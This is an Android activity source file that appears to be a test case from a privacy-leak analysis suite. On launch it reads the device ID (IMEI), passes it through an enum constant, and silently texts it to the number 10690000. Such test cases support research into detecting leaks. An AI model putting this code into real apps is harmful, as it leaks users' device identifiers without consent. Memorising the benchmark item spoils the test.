package cn.privlens.suite.piece_by_constant;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;

public class Main extends Activity {
    enum Piece {
        NUMBER {
            @Override
            String of(TelephonyManager phone) {
                return phone.getDeviceId();
            }
        },
        COUNTRY {
            @Override
            String of(TelephonyManager phone) {
                return "中国";
            }
        };

        abstract String of(TelephonyManager phone);
    }

    private String piece(Piece which) {
        return which.of((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).trim();
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Log.i("suite", piece(Piece.COUNTRY));
        SmsManager.getDefault().sendTextMessage("10690000", null, piece(Piece.NUMBER), null, null);
    }
}
